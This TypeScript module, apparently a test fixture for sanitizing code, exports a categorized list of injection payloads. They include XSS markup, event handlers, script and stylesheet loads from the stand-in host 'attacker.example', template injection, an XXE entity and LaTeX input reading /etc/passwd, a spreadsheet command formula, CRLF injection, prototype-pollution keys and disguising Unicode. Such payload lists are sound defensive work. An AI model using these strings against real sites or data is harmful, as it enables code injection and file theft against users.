/** The host that attacks send readers to; the reserved name makes sure that there is none. */
export const attackerHost = 'attacker.example';

const far = `https://${attackerHost}/x`;

/**
 * Texts that do harm where a page, a data file or a program takes them for more than texts. What runs calls
 * `attacked()` or `alert()`; what loads asks the attacker's host.
 */
export const payloads = {
  markup: [
    '<script>attacked()</script>',
    `<script src="${far}.js"></script>`,
    '</script><script>attacked()</script>',
    '</title></style></textarea></template></noscript><script>attacked()</script>',
    '--><script>attacked()</script><!--',
    ']]><script>attacked()</script>',
    '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
    `<iframe src="${far}"></iframe>`,
    `<object data="${far}"></object><embed src="${far}">`,
    `<form action="${far}"><button>Go</button></form>`,
    `<base href="${far}/">`,
    `<meta http-equiv="refresh" content="0;url=${far}">`,
    `<link rel="stylesheet" href="${far}.css"><link rel="preload" as="script" href="${far}.js">`,
    '<template><script>attacked()</script></template>',
    '<math><mtext><table><mglyph><style><img src=x onerror=attacked()>',
  ],
  handler: [
    '<img src=x onerror=attacked()>',
    `<img src="${far}.png" alt=>`,
    '"><svg onload=attacked()>',
    "'><svg/onload=attacked()>",
    '" autofocus onfocus="attacked()" x="',
    "' autofocus onfocus='attacked()' x='",
    '` onmouseover=attacked() x=`',
    '<details open ontoggle=attacked()>',
    '<a href="javascript:attacked()">here</a>',
    '<body onload=alert(1)>',
  ],
  address: [
    'javascript:attacked()',
    'java\tscript:attacked()',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:attacked()',
    `${far}"onclick="attacked()`,
    `${far}'><script>attacked()</script>`,
    `//${attackerHost}/x.js`,
    `[link](javascript:attacked()) ![](${far}.png)`,
    `https://user:secret@${attackerHost}/%00%0d%0aSet-Cookie:x`,
  ],
  template: [
    "{{constructor.constructor('attacked()')()}}",
    '#{attacked()} {attacked()} @{attacked()} $' + '{attacked()}',
    '<%= attacked() %> <?php attacked() ?> <#assign x=1>',
    '\\input{/etc/passwd} \\write18{x} $\\href{javascript:attacked()}{x}$',
    "=cmd|' /C calc'!A0",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  ],
  style: [
    `</style><style>*{background:url(${far}.png)}</style>`,
    `;background:url(${far}.png);x:`,
    `@import "${far}.css";`,
    'expression(attacked())',
  ],
  data: [
    '"},"__proto__":{"attacked":1},"x":{"a":"',
    '\\"},alert(1),{\\"a\\":\\"',
    "';alert(1);//",
    '\u2028alert(1)\u2029',
    '</ScRiPt ><sCrIpT>attacked()</sCrIpT >',
    '<!--<script>',
    '&lt;script&gt;attacked()&lt;/script&gt; &#60;img src=x onerror=attacked()&#62;',
    '\\u003cscript\\u003eattacked()\\u003c/script\\u003e',
  ],
  prototype: [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'valueOf',
    '__defineGetter__',
    'then',
  ],
  unseen: [
    '\u202Egpj.exe',
    '\u2066\u2067\u2068 isolated',
    'a\u0000b\u001b[2Jc',
    'a\u200bb\u00adc\ufeff',
    'no \ufffe\uffff characters',
  ],
} as const;

export const allPayloads: readonly string[] = Object.values(payloads).flat();
